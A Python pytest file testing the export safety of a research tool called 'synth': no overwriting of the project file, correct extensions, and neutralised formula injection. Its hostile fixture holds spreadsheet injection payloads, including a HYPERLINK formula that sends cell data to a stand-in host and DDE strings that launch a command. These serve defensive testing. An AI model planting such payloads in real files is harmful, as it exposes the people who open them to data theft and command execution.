"""Exports never destroy the project, honour the extension, and are safe to open in a spreadsheet.

Issue 12, items 1 (writing over the project), 3 (categories of more than 900 passages),
12 (formula injection in CSV and XLSX) and 18 (control characters in XLSX).
"""

from __future__ import annotations

import csv
import hashlib
import json
import os

import pytest
from openpyxl import load_workbook

from conftest import file_digest
from export_fixture import MODEL_ID, THEMES, build_review_project, sha
from synth.export.cells import FORMULA_TRIGGERS, csv_cell, is_formula_like
from synth.records import ExtractedDocument, PassageSpan
from synth.store import Project

ACCEPTED = [label for label, spec in THEMES.items() if spec[0] == "accepted"]

# A source whose name and metadata are formulas, whose passages start with every trigger character
# and carry control characters (from a real, hostile file: nothing here is invented by synth).
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_META = {"area": "=cmd|' /C calc'!A0", "programme": "@SUM(1+1)*cmd|' /C calc'!A0"}
HOSTILE_PASSAGES = [
    "+44 7700 900123 was the only number they gave, and nobody answered\x07 it.",
    "-5 degrees in the waiting room\x0b and still no interpreter.",
    "@mention the adviser\x1b[31m who helped with the forms.",
    "\tTabbed text that a spreadsheet might trim before reading =1+1.",
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "review.synth"
    built = build_review_project(path)
    text = "\n".join(HOSTILE_PASSAGES) + "\n"
    spans, at = [], 0
    for sentence in HOSTILE_PASSAGES:
        start = text.index(sentence, at)
        spans.append(PassageSpan(start, start + len(sentence), sentence))
        at = start + len(sentence)
    with Project.open(path, create=False) as project, project.transaction():
        doc = ExtractedDocument(name=HOSTILE_NAME, path="/evidence/x.txt", kind="survey", text=text, sha256=sha(text),
                                metadata=HOSTILE_META)
        _, ids = project.add_source(doc, spans, [sha(s.text) for s in spans])
        theme = built.theme_ids["Language barriers"]
        project.update_theme(theme, label="=Language barriers\x01 (formula?)")
        for pid in ids:
            project.set_membership(pid, theme, probability=0.99, placed=True, by_human=True)
            project.set_passage_category(pid, "barrier", {"barrier": 0.7, "enabler": 0.1, "practice": 0.1,
                                                          "context": 0.1}, [])
        project.set_quotes(theme, ids[:3])
        project.store_embeddings(MODEL_ID, {sha(s): __import__("numpy").ones(8, dtype="float32") for s in HOSTILE_PASSAGES})
    return built


def _csv_cells(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_csv_safe(path):
    cells = _csv_cells(path)
    assert cells
    dangerous = [c for c in cells if is_formula_like(c)]
    assert not dangerous, f"{path.name}: cells a spreadsheet would run: {dangerous[:3]}"
    return cells


def _assert_xlsx_safe(path):
    wb = load_workbook(path)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.quotePrefix, f"{path.name}!{ws.title}!{cell.coordinate}: {cell.value!r} not marked text"
                    seen += 1
    return seen


@pytest.mark.parametrize("what,options,ext", [
    ("assignments", (), ".csv"), ("codebook", (), ".csv"), ("matrix", ("--by", "source"), ".csv"),
    ("matrix", ("--by", "area"), ".csv"), ("matrix", ("--by", "programme"), ".csv"),
])
def test_csv_exports_neutralise_formulas(hostile, tmp_path, synth, what, options, ext):
    out = tmp_path / f"{what}{ext}"
    synth.ok("export", hostile.path, what, "-o", out, *options)
    cells = _assert_csv_safe(out)
    # neutralised, not dropped: the text is still there after the quote mark
    assert any(c.startswith("'=") or c.startswith("'+") or c.startswith("'-") or c.startswith("'@") for c in cells)


@pytest.mark.parametrize("what,options", [
    ("assignments", ()), ("codebook", ()), ("matrix", ("--by", "source")), ("matrix", ("--by", "area")),
    ("matrix", ("--by", "programme")),
])
def test_xlsx_exports_hold_no_formula_and_survive_control_characters(hostile, tmp_path, synth, what, options):
    out = tmp_path / f"{what}.xlsx"
    synth.ok("export", hostile.path, what, "-o", out, *options)
    assert _assert_xlsx_safe(out) > 0
    text = " ".join(str(c.value) for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row)
    assert "\ufffd" in text  # the control characters show as replacement marks, not a crash
    if what == "matrix" and options[1] != "source":
        assert HOSTILE_META[options[1]] in text  # header cells from metadata: present, as text


def test_matrix_xlsx_header_from_source_names_is_text(hostile, tmp_path, synth):
    out = tmp_path / "m.xlsx"
    synth.ok("export", hostile.path, "matrix", "--by", "source", "-o", out)
    ws = load_workbook(out)["Matrix"]
    header = {c.value: c for c in ws[1]}
    cell = header[HOSTILE_NAME]
    assert cell.data_type == "s" and cell.quotePrefix


def test_real_numbers_stay_numbers():
    assert csv_cell("-3") == "-3" and csv_cell("+0.5") == "+0.5" and csv_cell(-3) == -3 and csv_cell("1e-5") == "1e-5"
    assert csv_cell("-3 degrees") == "'-3 degrees" and csv_cell("=1+1") == "'=1+1" and csv_cell("\r=x") == "'\r=x"
    assert csv_cell("plain") == "plain"


# --- item 1: never over the project -------------------------------------------------------------

@pytest.fixture
def project(tmp_path):
    return build_review_project(tmp_path / "review.synth").path


def _digests(project):
    return {s: file_digest(project.with_name(project.name + s)) for s in ("", "-wal", "-shm")}


@pytest.mark.parametrize("what,name", [
    ("assignments", "review.synth"), ("codebook", "review.synth"), ("matrix", "review.synth"),
    ("project", "review.synth"), ("assignments", "review.synth-wal"), ("assignments", "review.synth-shm"),
])
def test_no_export_writes_over_the_project(project, synth, what, name):
    before = _digests(project)
    result = synth("export", project, what, "-o", project.with_name(name))
    assert result.exit_code == 1
    assert "would destroy the project" in result.output and "Traceback" not in result.output
    assert _digests(project) == before
    assert "Language barriers" in synth.ok("themes", project)


def test_no_export_writes_over_the_project_by_another_name(project, synth, tmp_path):
    before = _digests(project)
    (tmp_path / "sub").mkdir()
    link = tmp_path / "sub" / "link.csv"
    link.symlink_to(project)
    hard = tmp_path / "hard.csv"
    os.link(project, hard)
    dotted = tmp_path / "sub" / ".." / "review.synth"
    for out in (link, hard, dotted):
        result = synth("export", project, "assignments", "-o", out)
        assert result.exit_code == 1 and "would destroy the project" in result.output, out
    assert _digests(project) == before


def test_report_refuses_the_project_path(tmp_path, synth):
    project = build_review_project(tmp_path / "review.html").path  # a project that happens to end in .html
    before = hashlib.sha256(project.read_bytes()).hexdigest()
    result = synth("report", project, "-o", project)
    assert result.exit_code == 1 and "would destroy the project" in result.output
    assert hashlib.sha256(project.read_bytes()).hexdigest() == before


def test_assignments_honour_the_extension(project, synth, tmp_path):
    synth.ok("export", project, "assignments", "-o", tmp_path / "a.csv")
    synth.ok("export", project, "assignments", "-o", tmp_path / "a.xlsx")
    synth.ok("export", project, "assignments", "-o", tmp_path / "a.json")
    with open(tmp_path / "a.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    ws = load_workbook(tmp_path / "a.xlsx").active
    sheet = list(ws.iter_rows(values_only=True))
    data = json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))
    assert len(rows) == len(sheet) - 1 == len(data) > 0
    assert [r["passage_id"] for r in rows] == [str(r[0]) for r in sheet[1:]] == [str(d["passage_id"]) for d in data]
    placed = next(d for d in data if d["theme_id"] is not None)
    assert isinstance(placed["probability"], float) and isinstance(placed["start_char"], int)
    result = synth("export", project, "assignments", "-o", tmp_path / "a.txt")
    assert result.exit_code == 1 and "'.txt'" in result.output and ".csv, .xlsx, .json" in result.output
    assert not (tmp_path / "a.txt").exists()


# --- item 3: more than 900 ids ---------------------------------------------------------------------

def test_passage_categories_of_more_than_900_passages(tmp_path):
    path = tmp_path / "big.synth"
    n = 2500
    sentences = [f"Sentence number {i} about work." for i in range(n)]
    text = " ".join(sentences)
    spans, at = [], 0
    for s in sentences:
        start = text.index(s, at)
        spans.append(PassageSpan(start, start + len(s), s))
        at = start + len(s)
    with Project.open(path) as project, project.transaction():
        _, ids = project.add_source(ExtractedDocument(name="big.txt", path="/big.txt", kind="literature", text=text,
                                                      sha256=sha(text)), spans, [sha(s) for s in sentences])
        for pid in ids:
            project.set_passage_category(pid, "context", {"barrier": 0.1, "enabler": 0.1, "practice": 0.1,
                                                          "context": 0.7}, [])
    with Project.open(path, create=False) as project:
        got = project.passage_categories(ids)
        assert set(got) == set(ids)
        assert set(project.passage_categories(ids[-3:])) == set(ids[-3:])
